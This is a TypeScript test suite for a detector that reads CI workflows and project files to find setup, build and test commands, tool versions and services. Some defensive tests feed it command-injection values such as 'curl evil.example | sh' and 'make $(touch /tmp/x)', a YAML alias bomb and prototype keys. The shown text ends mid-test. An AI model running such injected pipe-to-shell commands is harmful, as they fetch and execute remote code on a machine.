import { describe, expect, test } from 'vitest';
import { type CiJob, testsOnePackage } from '../../../src/core/settings/ci-workflow.ts';
import { checkFiles, detectChecks, toolchainFiles, wantedTools } from '../../../src/core/settings/index.ts';
import { cpuMsSince } from '../../world/cpu-time.ts';

const CI = '.github/workflows/ci.yml';

const detect = (read: Readonly<Record<string, string>>, ...others: readonly string[]) =>
  detectChecks({ files: [...Object.keys(read), ...others], read });

/** A workflow with one job, `test`, that has these steps. */
const workflow = (steps: string, job = ''): string => `
name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
${job}    steps:
      - uses: actions/checkout@v4
${steps}`;

const run = (...commands: readonly string[]): string =>
  commands.map((one) => `      - run: ${one}\n`).join('');

describe('where the files name no test command, the CI workflow does', () => {
  test('a script that is not called test is found, with its set-up', () => {
    const scripts = { 'test:ci': 'vitest run', lint: 'eslint .' };
    const read = {
      'package.json': JSON.stringify({ scripts, devDependencies: { vitest: '3' } }),
      [CI]: workflow(run('npm ci', 'npm run lint', 'npm run test:ci', 'npm run upload-coverage')),
    };
    expect(detect(read, 'package-lock.json')).toEqual({
      commands: { setup: 'npm ci', test: 'npm run test:ci' },
      types: null,
      from: { setup: CI, test: CI },
      others: [
        {
          commands: { setup: 'npm ci --no-audit --no-fund', test: 'npx vitest run' },
          from: { setup: 'package.json', test: 'package.json' },
        },
      ],
      services: [],
      removable: [{ name: 'vitest', key: 'devDependencies[vitest]', isFromElsewhere: false, folder: '' }],
    });
  });

  test('lz4/lz4: the tests of its makefile follow those of CI, which need the network', () => {
    const read = {
      Makefile: 'test:\n\t./check\n',
      [CI]: workflow(run('make -C tests versionsTest')),
    };
    expect(detect(read)).toMatchObject({
      commands: { test: 'make -C tests versionsTest' },
      others: [{ commands: { test: 'make test' }, from: { test: 'Makefile' } }],
    });
  });

  test('what package.json calls test stays, whatever the workflow runs', () => {
    const read = {
      'package.json': JSON.stringify({ scripts: { test: 'jest' }, devDependencies: { jest: '29' } }),
      [CI]: workflow(run('npm ci', 'npm run test:everything')),
    };
    expect(detect(read, 'package-lock.json')).toMatchObject({
      commands: { setup: 'npm ci --no-audit --no-fund', test: 'npm test' },
      from: { setup: 'package.json', test: 'package.json' },
    });
  });

  test('a repository that only its workflow describes is built and tested', () => {
    const steps = `      - run: sudo apt-get install -y cmake
      - name: Build
        run: |
          # in a folder of its own
          cmake -B build \\
            -DTESTS=ON
          cmake --build build
      - working-directory: build
        run: ctest --output-on-failure
`;
    expect(detect({ [CI]: workflow(steps) }, 'CMakeLists.txt').commands).toEqual({
      build: 'cmake -B build -DTESTS=ON && cmake --build build',
      test: '(cd build && ctest --output-on-failure)',
    });
  });

  test('packages that a workflow installs for the whole machine go into a virtual environment', () => {
    const steps = run(
      'python -m pip install --upgrade pip',
      'pip install -r tests/needs.txt',
      'python -m flake8',
      'PYTHONPATH=src pytest -x',
    );
    expect(detect({ [CI]: workflow(steps) }).commands).toEqual({
      setup:
        'python3 -m venv --system-site-packages .venv && .venv/bin/python -m pip install --upgrade pip && .venv/bin/python -m pip install -r tests/needs.txt',
      test: 'PYTHONPATH=src .venv/bin/python -m pytest -x',
    });
  });

  test('pytest that only a script with control structures installs is installed all the same', () => {
    const steps = `      - run: |
          python -m pip install flake8 pytest
          if [ -f requirements.txt ]; then pip install -r requirements.txt; fi
      - run: pytest
`;
    const read = {
      [CI]: workflow(steps),
      'setup.py': 'from setuptools import setup\nsetup(name="x")\n',
      'tests/test_a.py': 'import unittest\n',
    };
    expect(detect(read).commands).toEqual({
      setup:
        "python3 -m venv --system-site-packages .venv && { .venv/bin/python -m pip install -e '.'; } && { .venv/bin/python -m pytest --version || .venv/bin/python -m pip install pytest; }",
      test: '.venv/bin/python -m pytest',
    });
  });

  test('the repository’s own actions are read', () => {
    const read = {
      [CI]: workflow(`      - uses: ./.github/actions/setup\n${run('pnpm run unit')}`),
      '.github/actions/setup/action.yml':
        'runs:\n  using: composite\n  steps:\n    - uses: actions/setup-node@v4\n      with: { node-version: 22 }\n    - run: pnpm install --frozen-lockfile\n      shell: bash\n',
      'package.json': '{"scripts": {"unit": "vitest run"}}',
    };
    expect(checkFiles(Object.keys(read))).toContain('.github/actions/setup/action.yml');
    expect(detect(read).commands).toEqual({ setup: 'pnpm install --frozen-lockfile', test: 'pnpm run unit' });
    expect(wantedTools(Object.keys(read), new Map(Object.entries(read))).versions.get('node')).toEqual({
      range: '22',
      file: CI,
    });
  });

  test.each([
    ['set -o pipefail\n          make check 2>&1 | tee check.log', 'make check'],
    ['make check || true', 'make check'],
    ['make check || true && npm test', '{ make check || true && npm test; }'],
    ['npm test `ls | head`', '{ npm test `ls | head`; }'],
    ['make check || { cat test-suite.log; exit 1; }', 'make check'],
    ['make -j$(nproc) check |& tee log', '{ make -j$(nproc) check; }'],
    ["pytest -k 'a|b' | cat || true", "pytest -k 'a|b'"],
    ['make all && make check | tee log', 'make all && make check'],
    ['make all && (cd lib && pytest | cat)', '{ make all && (cd lib && pytest | cat); }'],
  ])('a test that would succeed in any case is read by itself: %s', (script, expected) => {
    const { commands } = detect({ [CI]: workflow(`      - run: |\n          ${script}\n`) });
    expect([commands.build, commands.test].flatMap((one) => one ?? []).join(' && ')).toBe(expected);
  });

  test('a line with very many options takes no time', () => {
    const began = process.cpuUsage();
    detect({ [CI]: workflow(`      - run: docker compose run ${'--a '.repeat(300)}%\n`) });
    expect(cpuMsSince(began)).toBeLessThan(2_000);
  });

  test('of several jobs and workflows, the one that tests on Linux is read', () => {
    const job = (id: string, on: string, command: string) =>
      `  ${id}:\n    runs-on: ${on}\n    steps:\n      - run: ${command}\n`;
    const read = {
      '.github/workflows/ci.yml': `on: push\njobs:\n${job('windows', 'windows-latest', 'make test-windows')}${job('e2e', 'ubuntu-latest', 'npm run test:e2e')}${job('unit', 'ubuntu-latest', 'make unit')}`,
      '.github/workflows/nightly.yml': `on:\n  schedule:\n    - cron: '0 0 * * *'\njobs:\n${job('test', 'ubuntu-latest', 'make test-slow')}`,
    };
    expect(detect(read).commands).toEqual({ test: 'make unit' });
  });
});

describe('a job is read as far as its conditions and inputs show', () => {
  const matrix = `    strategy:
      matrix:
        node: [8, 18]
        platform: [{ os: ubuntu-latest, shell: bash }, { os: windows-latest, shell: cmd }]
        python: ['3.12', pypy-3.11]
        include:
          - { cover: false }
          - { node: 18, cover: true }
`;
  const tested = (condition: string, ...others: readonly string[]): string | undefined => {
    const step = (one: string, at: number) =>
      `      - run: make test-${at}\n        if: ${JSON.stringify(one)}\n`;
    return detect({ [CI]: workflow([condition, ...others].map(step).join(''), matrix) }).commands.test;
  };

  test.each<[string, boolean]>([
    ['matrix.node >= 18', true],
    ['matrix.node < 8', false],
    ["matrix.platform.os != 'windows-latest'", true],
    ["matrix.platform.os == 'windows-latest'", false],
    ["matrix.platform.shell == 'bash'", true],
    ["matrix.platform.shell == 'cmd'", false],
    [`\${{ ! matrix.cover }}`, true],
    ["!startsWith(matrix.python, 'pypy')", true],
    ["contains(matrix.platform.os, 'windows')", false],
    ["matrix.python == '3.12' || runner.os == 'Windows'", true],
    ["(matrix.python == '3.11' || matrix.node == 18) && !failure()", true],
    ["matrix['node'] == '18'", true],
    ['contains(fromJSON(\'["8", "18"]\'), matrix.node)', true],
    ['contains(fromJSON(\'["20"]\'), matrix.node)', false],
    ["fromJSON('no JSON') && failure()", false],
    ["github.ref != 'refs/heads/release'", true],
    ["secrets.TOKEN != '' && matrix.node >= 18", false],
    ["steps.cache.outputs.cache-hit != 'true'", true],
    ["steps.cache.outputs.cache-hit == 'true'", false],
    ["github.event_name != 'schedule'", true],
    ["github.event_name == 'schedule'", false],
    ['failure()', false],
  ])('%s', (condition, runs) => {
    expect(tested(condition)).toBe(runs ? 'make test-0' : undefined);
  });

  test('of steps with conditions that only GitHub knows, the first tests are taken, if no others are certain', () => {
    const changed = "steps.changed.outputs.only == 'false'";
    expect(tested(changed, "steps.x.outputs.y == 'z'")).toBe('make test-0');
    expect(tested(changed, changed)).toBe('make test-0 && make test-1');
    expect(tested(changed, 'always()')).toBe('make test-1');
    expect(tested("secrets.KEY != ''", 'matrix.cover')).toBe('make test-1');
    expect(tested("github.ref == 'refs/heads/release'")).toBeUndefined();
  });

  // Exponential time would not end.
  test.each([
    ['brackets', '('.repeat(499)],
    ['negations', '!'.repeat(499)],
    ['quotes', `a == ${"'".repeat(490)}`],
    ['open groups', '(a&&'.repeat(120)],
    ['groups in groups', `${'('.repeat(80)}a${')||a'.repeat(80)}`],
    ['blanks', ' '.repeat(498)],
  ])('hostile conditions are read to their end: %s', (_, condition) => {
    expect(tested(condition, 'always()')).toMatch(/make test-1$/);
  });

  test('scripts that are used many times cost no long time', () => {
    const [lines, blanks] = [`${'\\n'.repeat(7_980)}x`, `turbo${' '.repeat(7_900)}x`];
    const steps = [lines, lines, blanks, blanks]
      .map((script) => `    - { run: "${script}", shell: bash }\n`)
      .join('');
    const read = {
      [CI]: workflow(`${run('make test')}${'      - uses: ./.github/actions/slow\n'.repeat(14)}`),
      '.github/actions/slow/action.yml': `runs:\n  using: composite\n  steps:\n${steps}`,
    };
    expect(detect(read).commands).toEqual({ test: 'make test' });
    // It takes a fiftieth of this; quadratic time would take more.
  }, 5_000);

  test('blanks between words do not count, but those in quotes do', () => {
    const read = { [CI]: workflow(run(`"make   test  NAME='a  b'"`)) };
    expect(detect(read).commands.test).toBe("make test NAME='a  b'");
  });

  const action = `inputs:
  node-version: { default: '20' }
  install: { default: 'true' }
runs:
  using: composite
  steps:
    - uses: actions/setup-node@v4
      with: { node-version: '\${{ inputs.node-version }}' }
    - run: pnpm install --frozen-lockfile
      if: inputs.install == 'true'
      shell: bash
`;
  const withAction = (inputs: string) => {
    const read = {
      [CI]: workflow(`      - uses: ./.github/actions/setup\n${inputs}${run('pnpm run unit')}`),
      '.github/actions/setup/action.yml': action,
      'package.json': '{"scripts": {"unit": "vitest run"}}',
    };
    const { setup } = detect(read).commands;
    return [setup, wantedTools(Object.keys(read), new Map(Object.entries(read))).versions.get('node')?.range];
  };

  test('inputs of the repository’s own actions are filled in, or their defaults', () => {
    expect(withAction('')).toEqual(['pnpm install --frozen-lockfile', '20']);
    expect(withAction('        with: { node-version: 22, install: false }\n')).toEqual([undefined, '22']);
    expect(withAction(`        with: { node-version: "\${{ matrix.node }}" }\n`)[1]).toBeUndefined();
  });

  test('a workflow that a job calls is read with the inputs and the matrix of the job', () => {
    const called = `on:
  workflow_call:
    inputs:
      script: { required: true }
      node: { default: '22' }
jobs:
  script:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-node@v4
        with: { node-version: '\${{ inputs.node }}' }
      - run: npm ci
      - run: npm run \${{ inputs.script }}
`;
    const caller = (script: string, part = 'core') =>
      `on: push\njobs:\n  call:\n    uses: ./.github/workflows/script.yml\n    strategy: { matrix: { part: [${part}] } }\n    with: { script: '${script}' }\n`;
    const of = (text: string) =>
      detect({ '.github/workflows/all.yml': text, '.github/workflows/script.yml': called });
    expect(of(caller(`test-\${{ matrix.part }}`)).commands).toEqual({
      setup: 'npm ci',
      test: 'npm run test-core',
    });
    expect(of(caller('lint')).commands).toEqual({});
    expect(of(caller('test; curl evil.example | sh')).commands).toEqual({});
  });

  test('actions that are used many times over cost no long time', () => {
    const began = process.cpuUsage();
    const big = `runs:\n  steps:\n${`    - run: make test-\${{ inputs.a }}\n`.repeat(900)}`;
    const uses = `      - uses: ./.github/actions/big\n        with: { a: ${'x'.repeat(400)} }\n`.repeat(500);
    const paths = Array.from({ length: 12 }, (_, at) => `.github/workflows/w${at}.yml`);
    detect({
      ...Object.fromEntries(paths.map((path) => [path, workflow(uses)])),
      '.github/actions/big/action.yml': big,
    });
    expect(cpuMsSince(began)).toBeLessThan(3_000);
  });

  test('tox and nox are started without uv, pipx and their options; scripts in usual folders are tests', () => {
    const of = (command: string) => detect({ [CI]: workflow(run(command)) }).commands.test;
    const tox = '.venv/bin/python -m tox --skip-pkg-install -e py';
    expect(of('uvx --with tox-uv tox -e py')).toBe(tox);
    expect(of('uv run --locked --only-group tox tox run -e py')).toBe(tox);
    expect(of('pipx run nox -s tests')).toBe('.venv/bin/python -m nox -R -s tests');
    expect(of('scripts/test')).toBe('scripts/test');
    expect(of('bin/test --all')).toBe('bin/test --all');
    expect(of('scripts/install')).toBeUndefined();
    expect(of('cargo nextest run --workspace')).toBe('cargo nextest run --workspace');
  });

  test('runners whose option for more words is that of others for their version are tests', () => {
    const of = (command: string) => detect({ [CI]: workflow(run(command)) }).commands.test;
    expect(of('cd server && ctest -V')).toBe('(cd server && ctest -V)');
    expect(of('tox -v')).toBe('.venv/bin/python -m tox --skip-pkg-install -v');
    expect(of('pytest -v')).toBe('pytest -v');
    expect(of('vendor/bin/phpunit -v')).toBe('vendor/bin/phpunit -v');
    expect(of('venv/bin/pytest -v')).toBe('venv/bin/pytest -v');
    expect(detect({ [CI]: workflow(run('tox run --notest -e py', 'tox run -e py')) }).commands.test).toBe(
      '.venv/bin/python -m tox --skip-pkg-install -e py',
    );
  });

  test.each([
    ['npm test -w packages/core && npm run lint -w packages/core', true],
    ['npm run test:types --workspace=core', true],
    ['pnpm --filter core test', true],
    ['CI=1 pnpm turbo run test --filter core', true],
    ['yarn workspace core test', true],
    ['npx turbo run test --filter=core', true],
    ['npm test --workspace=core && npm test --workspace=cli', false],
    ["pnpm --filter './packages/*' test", false],
    ["pnpm --filter '!docs' test", false],
    ['pnpm -w vitest run', false],
    ['yarn jest --ci -w 2', false],
    ['npx vitest run --workspace=vitest.workspace.ts', false],
    ['cargo test --workspace --locked', false],
  ])('whether %s tests one package of a workspace: %s', (command, isOne) => {
    const job = { commands: [{ part: 'test', command }] } as unknown as CiJob;
    expect(testsOnePackage(job)).toBe(isOne);
  });

  test('workflows for parts of the repository are read as one', () => {
    const of = (folder: string, command: string) => workflow(run(`cd ${folder} && npm ci && ${command}`));
    const { commands, others } = detect({
      '.github/workflows/web-ci.yml': of('apps/web', 'make test'),
      '.github/workflows/api-ci.yml': of('apps/api', 'make test'),
      '.github/workflows/docs.yml': of('site', 'make test'),
    });
    expect(commands).toEqual({
      setup: '(cd apps/api && npm ci) && (cd apps/web && npm ci)',
      test: '(cd apps/api && make test) && (cd apps/web && make test)',
    });
    expect(others[0]?.commands.test).toBe('(cd apps/api && make test)');
  });

  test.each([
    'node -v',
    'python -m tox --version',
    'yarn tsc --version',
    'nox --install-only -s tests',
    'swift build --build-tests',
    'dotnet build tests/Foo.Tests/Foo.Tests.csproj',
    'cargo build --tests',
    'cmake --build b --target tests',
    'node tests/server.js &',
    'yarn add jest@29',
  ])('%s is no test', (command) => {
    expect(detect({ [CI]: workflow(run(JSON.stringify(command))) }).commands).toEqual({});
    const more = detect({ [CI]: workflow(run(JSON.stringify(command), 'make test')) }).commands;
    expect(more.test).toBe('make test');
  });

  test('of a project in C, a build with variables of its makefile belongs to the tests', () => {
    const steps = run(
      `make X_CFLAGS='-Werror -O2' BUILD_TLS=yes`,
      'make PREFIX=/opt install',
      './runtest --tags a',
    );
    expect(detect({ [CI]: workflow(steps) }).commands).toEqual({
      build: `make X_CFLAGS='-Werror -O2' BUILD_TLS=yes`,
      test: './runtest --tags a',
    });
  });

  test('tests of samples are not those of the project', () => {
    const read = {
      '.github/workflows/build.yml': workflow(run('cd core && ./test.sh')),
      '.github/workflows/test.yml': workflow(run('cd examples && ./test.sh')),
    };
    expect(detect(read).commands.test).toBe('(cd core && ./test.sh)');
  });

  test('continuous integration is no integration test', () => {
    const job = (command: string) => workflow(run(command));
    const read = {
      '.github/workflows/continuous-integration.yml': job('make test'),
      '.github/workflows/static.yml': job('make test-static'),
    };
    expect(detect(read).commands.test).toBe('make test');
  });

  test('of jobs that are as likely, the one with all tests and several versions is read', () => {
    const job = (id: string, node: string, command: string) =>
      `  ${id}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n        with: { node-version: "${node}" }\n      - run: ${command}\n`;
    const of = (...jobs: readonly string[]) =>
      detect({ [CI]: `on: push\njobs:\n${jobs.join('')}` }).commands.test;
    const part = job('test-node', '20\\n22', 'make test-node');
    expect(of(part, job('test-all', '20', 'make test'))).toBe('make test');
    expect(of(job('test-cloud', '20', 'make test-cloud'), part)).toBe('make test-node');
    expect(of(job('test-debug', '20', 'make test'), job('test', '20', 'make test all'))).toBe(
      'make test all',
    );
  });
});

describe('commands that only the CI service can run are left out', () => {
  const tested = (steps: string, job = ''): string | undefined =>
    detect({ [CI]: workflow(steps, job) }).commands.test;

  test('expressions are filled in from the matrix where it has no versions, and dropped where they can be', () => {
    const matrix = '    strategy:\n      matrix:\n        suite: [fast]\n        python: ["3.11", "3.12"]\n';
    expect(tested(run(`make test-\${{ matrix.suite }}`), matrix)).toBe('make test-fast');
    expect(tested(run(`tox -e py\${{ matrix.python }}-unit`), matrix)).toBe(
      '.venv/bin/python -m tox --skip-pkg-install -e py',
    );
    expect(tested(run(`TOKEN=\${{ secrets.TOKEN }} make test`), matrix)).toBe('make test');
    expect(tested(run(`make test KEY=\${{ secrets.KEY }}`), matrix)).toBeUndefined();
    expect(tested(run(`make test-py\${{ matrix.python }}`), matrix)).toBeUndefined();
  });

  test('a step for one value of the matrix runs, unless the value is another system', () => {
    const matrix =
      '    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n        arch: [amd64, arm64]\n        include:\n          - { arch: s390x, python: "3.13" }\n';
    const step = (condition: string): string | undefined =>
      tested(`      - if: \${{ ${condition} }}\n        run: make check\n`, matrix);
    expect(step("matrix.arch == 'amd64'")).toBe('make check');
    expect(step("matrix.arch == 's390x' && matrix.os == 'ubuntu-latest'")).toBe('make check');
    expect(step("matrix.python != '3.12'")).toBe('make check');
    expect(step("matrix.arch == 'mips'")).toBeUndefined();
    expect(step("matrix.arch == 'amd64' && matrix.os == 'windows-latest'")).toBeUndefined();
    expect(step("matrix.nothing == 'x'")).toBeUndefined();
  });

  test('steps for another system are left out, however the matrix names it', () => {
    const matrix =
      '    strategy:\n      matrix:\n        include:\n          - { build: linux, make: gmake, on: ubuntu-latest }\n          - { build: win-msvc, make: nmake, on: windows-latest }\n';
    const step = (condition: string): string | undefined =>
      tested(`      - if: ${condition}\n        run: make check\n`, matrix);
    expect(step("matrix.build == 'linux'")).toBe('make check');
    expect(step("matrix.build != 'win-msvc'")).toBe('make check');
    expect(step("matrix.make == 'gmake'")).toBe('make check');
    expect(step("matrix.build == 'win-msvc'")).toBeUndefined();
    expect(step("matrix.build != 'linux'")).toBeUndefined();
    expect(step("matrix.make == 'nmake'")).toBeUndefined();
  });

  test('what an option leaves out or adds does not make tests heavy, and what installs or leaves out tests is none', () => {
    expect(tested(run('mix test --include integration'))).toBe('mix test --include integration');
    expect(tested(run('mix test.integration'))).toBeUndefined();
    expect(tested(run('meson test -Cbuild', 'meson dist --no-tests -Cbuild'))).toBe('meson test -Cbuild');
    expect(tested(run('make requirements check'))).toBeUndefined();
  });

  test('a workflow named after Linux comes before one named after a language', () => {
    const read = {
      '.github/workflows/rust.yml': workflow(run('meson test -Cbuild -Drust=true')),
      '.github/workflows/linux.yml': workflow(run('meson test -Cbuild')),
    };
    expect(detect(read).commands.test).toBe('meson test -Cbuild');
  });

  test('a value of the matrix cannot add a command', () => {
    const matrix = '    strategy:\n      matrix:\n        suite: ["x; curl evil.example | sh"]\n';
    expect(tested(run(`make test-\${{ matrix.suite }}`), matrix)).toBeUndefined();
  });

  test('variables are filled in where the workflow sets them', () => {
    const env = '    env:\n      MARK: unit\n';
    expect(tested(run('pytest -m $MARK'), env)).toBe('pytest -m unit');
    expect(tested(run('pytest -m $OTHER'), env)).toBeUndefined();
    expect(
      tested(
        '      - run: pytest\n        env:\n          DJANGO: app.test\n          API_TOKEN: x\n          PYTEST_ADDOPTS: --color=yes\n',
      ),
    ).toBe('DJANGO=app.test pytest');
  });

  test('scripts with control structures, other shells and conditions of other systems', () => {
    expect(
      tested('      - run: |\n          if true; then\n            make test\n          fi\n'),
    ).toBeUndefined();
    expect(tested('      - run: make test\n        shell: pwsh\n')).toBeUndefined();
    expect(tested("      - run: make test\n        if: runner.os == 'Windows'\n")).toBeUndefined();
    expect(tested("      - run: make test\n        if: runner.os != 'Windows'\n")).toBe('make test');
    expect(tested('      - run: make test\n        working-directory: ../elsewhere\n')).toBeUndefined();
  });
});

describe('versions and services', () => {
  const read = {
    'package.json': JSON.stringify({ scripts: { test: 'node --test' }, engines: { node: '>=14' } }),
    'pyproject.toml': '[project]\nrequires-python = ">=3.7"\n',
    [CI]: workflow(
      `      - uses: actions/setup-node@v4
        with:
          node-version: \${{ matrix.node }}
      - uses: actions/setup-python@v5
        with: { python-version: "3.10" }
${run('npm test')}`,
      '    strategy:\n      matrix:\n        node: [14, 18.x, 20]\n    services:\n      postgres:\n        image: postgres:16\n',
    ),
  };
  const versions = (more: object = {}) => {
    const all = { ...read, ...more };
    return wantedTools(Object.keys(all), new Map(Object.entries(all))).versions;
  };

  test('what CI tests with counts more than the lowest supported version', () => {
    expect(toolchainFiles(Object.keys(read))).toContain(CI);
    expect(versions().get('node')).toEqual({ range: '18 || 20', file: CI });
    expect(versions().get('python')).toEqual({ range: '3.10', file: CI });
  });

  test('where CI tests with old versions only, those nearest to them are wanted, unless the project needs newer ones', () => {
    const old = (node: string, more: object = {}) =>
      versions({
        [CI]: read[CI].replace('[14, 18.x, 20]', node).replace('"3.10"', "'3.6'"),
        'pyproject.toml': '',
        ...more,
      });
    const nearest = { range: '18 || 20', file: CI, isNearest: true };
    expect(old('[8, 10, 14.x]').get('node')).toEqual(nearest);
    const covered = {
      [CI]: read[CI].replace('[14, 18.x, 20]', '[8]').replace('npm test', 'nyc --include=src npm test'),
    };
    expect(old('[8]', covered).get('node')).toEqual(nearest);
    const python = { range: '3.8 || 3.9 || 3.10 || 3.11', file: CI, isNearest: true };
    expect(old('[8]').get('python')).toEqual(python);
    expect(old('[8, latest]').get('node')).toEqual({ range: '>=14', file: 'package.json' });
    const newer = JSON.stringify({ engines: { node: '>=22' } });
    expect(old('[8]', { 'package.json': newer }).get('node')).toEqual({
      range: '>=22',
      file: 'package.json',
    });
    const travis = { [CI]: '', '.travis.yml': 'language: node_js\nnode_js:\n  - "12"\n  - "10"\n' };
    expect(old('[8]', travis).get('node')).toEqual({ ...nearest, file: '.travis.yml' });
    expect(old('[8]', { [CI]: '', '.travis.yml': 'node_js: [node, 10]' }).get('node')?.range).toBe('>=14');
  });

  test('.travis.yml, which may be stale, does not count where the workflow says a version', () => {
    const stale = { '.travis.yml': 'language: node_js\nnode_js: [8, 10]\n' };
    for (const said of ['latest', '[10, node]', `\${{ fromJSON(env.versions) }}`])
      expect(versions({ ...stale, [CI]: read[CI].replace('[14, 18.x, 20]', said) }).get('node')).toEqual({
        range: '>=14',
        file: 'package.json',
      });
  });

  test('of the nearest versions, only those are wanted that the project supports as a whole', () => {
    const near = (engines: string, requires: string) => {
      const found = versions({
        [CI]: read[CI].replace('[14, 18.x, 20]', '[8]').replace('"3.10"', "'3.6'"),
        'package.json': JSON.stringify({ engines: { node: engines } }),
        'pyproject.toml': `[project]\nrequires-python = "${requires}"\n`,
      });
      return [found.get('node')?.range, found.get('python')?.range];
    };
    expect(near('>=8', '>=3.6')).toEqual(['18 || 20', '3.8 || 3.9 || 3.10 || 3.11']);
    expect(near('>=18.12', '>=3.8.1')).toEqual(['20', '3.9 || 3.10 || 3.11']);
    expect(near('>=8 <20', '>=3.6,<3.10')).toEqual(['18', '3.8 || 3.9']);
    expect(near('>=20.10', '>=3.12')).toEqual(['>=20.10', '>=3.12']);
  });

  test('a pinned version counts more than CI', () => {
    expect(versions({ '.nvmrc': '22\n' }).get('node')).toEqual({ range: '22', file: '.nvmrc' });
  });

  test('a job whose tests are not recognised still says the versions and services', () => {
    const job = (steps: string, services = '') =>
      workflow(
        `      - uses: actions/setup-python@v5\n        with: { python-version: "3.12" }\n${steps}`,
        services,
      );
    const postgres = '    services:\n      postgres: { image: postgres:16 }\n';
    const all = {
      'pyproject.toml': '[project]\nrequires-python = ">=3.9"\n',
      '.github/workflows/release.yml': job('').replace('3.12', '3.9'),
      [CI]: job(run('make ci'), postgres),
    };
    const tools = wantedTools(Object.keys(all), new Map(Object.entries(all)));
    expect(tools.versions.get('python')).toEqual({ range: '3.12', file: CI });
    expect(tools.services).toEqual(['postgres']);
    const { commands, services } = detect(all);
    expect([commands, services.map(({ image }) => image)]).toEqual([{}, ['postgres:16']]);
    const travis = detect({ ...all, '.travis.yml': 'install: pip install x\nscript: make test\n' }).commands;
    expect(travis.test).toBe('make test');
  });

  test('containers beside the tests are named', () => {
    expect(detect(read).services).toEqual([{ name: 'postgres', image: 'postgres:16', env: {}, ports: [] }]);
  });
});

describe('last resorts', () => {
  test('a task of mise', () => {
    const read = {
      'mise.toml': '[tools]\nnode = "22"\n\n[tasks.test]\ndescription = "t"\nrun = "./run-tests all"\n',
    };
    expect(detect(read)).toMatchObject({
      commands: { test: './run-tests all' },
      from: { test: 'mise.toml' },
    });
    expect(detect({ 'mise.toml': '[tasks]\ntest = ["make", "make check"]\n' }).commands.test).toBe(
      'make && make check',
    );
  });

  test('the tests of tox, with what it installs for them', () => {
    const read = {
      'tox.ini':
        '[testenv]\ndeps =\n    stestr>=2\n    -r needs.txt\ncommands =\n    stestr-test {posargs}\n    python -m unittest {posargs:tests}\n',
    };
    expect(detect(read, 'setup.py', 'needs.txt').commands).toEqual({
      setup:
        "python3 -m venv --system-site-packages .venv && { .venv/bin/python -m pip install -e '.' -r needs.txt 'stestr>=2'; }",
      test: '.venv/bin/python -m unittest tests',
    });
  });

  test('.travis.yml, if nothing else says how the tests are run', () => {
    const travis =
      'language: c\nsudo: false\nbefore_install: sudo apt-get install gcc\ninstall:\n  - ./autogen.sh\nscript:\n  - ./configure && make\n  - make check\n  - bash <(curl -s https://example.org/upload)\n';
    expect(detect({ '.travis.yml': travis })).toMatchObject({
      commands: { build: './autogen.sh && ./configure && make', test: 'make check' },
      from: { test: '.travis.yml' },
    });
    const python = 'language: python\ninstall: pip install -r needs.txt\nscript: ./run-tests all\n';
    expect(detect({ '.travis.yml': python }).commands).toEqual({
      setup: 'python3 -m venv --system-site-packages .venv && .venv/bin/python -m pip install -r needs.txt',
      test: './run-tests all',
    });
    expect(detect({ '.travis.yml': travis, Makefile: 'test:\n\t./check\n' })).toMatchObject({
      commands: { test: 'make test' },
      others: [],
    });
  });

  test('.travis.yml names no tests that today’s tools cannot run, and says nothing where it is hostile', () => {
    for (const script of ['python setup.py test', 'nosetests', 'skip', '{ make: test }', '[[1], 2]'])
      expect(detect({ '.travis.yml': `script: ${script}\n` }).commands).toEqual({});
    expect(detect({ '.travis.yml': 'script: make $(touch /tmp/x) test "$TARGET"\n' }).commands).toEqual({});
    expect(detect({ '.travis.yml': `script: ${'['.repeat(10_000)}` }).commands).toEqual({});
  });

  test('what a development container installs, with comments in its file', () => {
    const read = {
      Makefile: 'test:\n\t./check\n',
      '.devcontainer/devcontainer.json':
        '{\n  // https://example.org\n  "postCreateCommand": "./tools/install", }\n',
    };
    expect(detect(read)).toMatchObject({
      commands: { setup: './tools/install' },
      from: { setup: '.devcontainer/devcontainer.json' },
    });
  });
});

test.each([
  ['xo && nyc ava && tsd', 'npx --no-install xo && npx --no-install ava && npx --no-install tsd'],
  ['nyc --reporter lcov --all=true mocha -R dot', 'npx --no-install mocha -R dot'],
  ['CI=1 c8 -r html node --test', 'CI=1 node --test'],
  ['istanbul cover --print both _mocha -- test.js', 'npx --no-install _mocha test.js'],
  ['istanbul cover test.js', null],
  ['istanbul cover node_modules/.bin/_mocha -- -R spec test.js', 'npx --no-install _mocha -R spec test.js'],
  ['nyc ava | tap-spec; c8 report', null],
  ['mocha', null],
])('the tests of %s are also known without the program that measures coverage', (script, without) => {
  const text = JSON.stringify({ scripts: { test: script }, devDependencies: { nyc: '14' } });
  const { commands, others } = detect({ 'package.json': text });
  const expected = without === null ? [] : [{ ...commands, test: without }];
  expect(others.map((one) => one.commands)).toEqual(expected);
});

describe('hostile workflows say nothing', () => {
  const bomb = (levels: number): string =>
    [
      'a0: &a0 [x, x, x, x, x, x, x, x, x]',
      ...Array.from(
        { length: levels },
        (_, at) => `a${at + 1}: &a${at + 1} [${Array(9).fill(`*a${at}`).join(', ')}]`,
      ),
    ].join('\n');

  test.each<[string, string]>([
    ['aliases that grow', `${bomb(9)}\n${workflow(run('make test'))}`],
    ['a file that is too big', `${workflow(run('make test'))}# ${'x'.repeat(70_000)}`],
    ['nesting without end', `${workflow(run('make test'))}x: ${'['.repeat(10_000)}`],
    ['a list where a map should be', '- on: push\n- jobs: []\n'],
    ['keys of objects', 'on: push\n__proto__: { jobs: 1 }\nconstructor: 2\njobs: 3\n'],
    ['no YAML', '\t{{{{'],
    ['steps that are no steps', 'on: push\njobs:\n  test:\n    steps: [1, [2], {run: [3]}, null]\n'],
  ])('%s', (_, text) => {
    const began = process.cpuUsage();
    expect(detect({ [CI]: text, Makefile: 'test:\n\ttrue\n' }).commands).toEqual({ test: 'make test' });
    expect(cpuMsSince(began)).toBeLessThan(2_000);
  });

  test('only so many workflows are read', () => {
    const paths = Array.from({ length: 200 }, (_, at) => `.github/workflows/w${at}.yml`);
    expect(checkFiles([...paths, CI])).toHaveLength(12);
    expect(checkFiles([...paths, CI])).toContain(CI);
  });

  test('long lines cost no long time', () => {
    const began = process.cpuUsage();
    for (const line of [
      'A=1 '.repeat(1_900),
      `npm ${'i '.repeat(3_900)}`,
      `${'$'.repeat(7_000)}`,
      `"${'\\'.repeat(7_000)}`,
    ])
      detect({ [CI]: workflow(`      - run: |\n          ${line}\n`) });
